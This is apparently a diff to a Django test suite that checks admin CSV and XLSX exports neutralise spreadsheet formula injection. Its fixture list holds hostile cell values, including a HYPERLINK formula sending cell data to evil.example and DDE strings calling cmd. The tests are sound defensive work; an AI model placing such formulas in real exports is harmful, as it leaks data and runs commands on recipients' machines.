@@ -13,7 +13,7 @@ from django.test import RequestFactory
 from import_export.mixins import BaseExportMixin
 from import_export.resources import Resource
 
-from alliance.exports import neutralise_cell
+from alliance.exports import ReadableExportResource, neutralise_cell
 
 PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -57,7 +57,9 @@ def test_no_formula_survives_any_export_of_any_model(monkeypatch, staff_user):
     """Every field of every resource of every exporting admin exports a hostile text: none of it
     reaches the CSV or the XLSX as something a spreadsheet would run."""
     payloads = itertools.cycle(PAYLOADS)
-    monkeypatch.setattr(Resource, "export_field", lambda self, field, instance, **kw: next(payloads))
+    hostile = lambda self, field, instance, **kw: next(payloads)  # noqa: E731
+    monkeypatch.setattr(Resource, "export_field", hostile)
+    monkeypatch.setattr(ReadableExportResource, "export_field", hostile)
     request = RequestFactory().get("/")
     request.user = staff_user
     staff_user.is_superuser = True
@@ -90,7 +92,7 @@ def test_an_applications_formula_reaches_the_xlsx_as_text(staff_client):
     xlsx = next(i for i, f in enumerate(formats) if f().get_title() == "xlsx")
     response = staff_client.post("/en/admin/centres/application/export/", {
         "format": str(xlsx), "resource": "0", "export_items": [application.pk],
-        "applicationresource_organisation": "on", "applicationresource_contact_name": "on"})
+        "applicationresourcereadable_organisation": "on", "applicationresourcereadable_contact_name": "on"})
     assert response.status_code == 200, response.content[:500]
     cells = _cells_of(formats[xlsx](), response.content)
     assert "'=HYPERLINK(\"https://evil.example\",\"Click\")" in cells
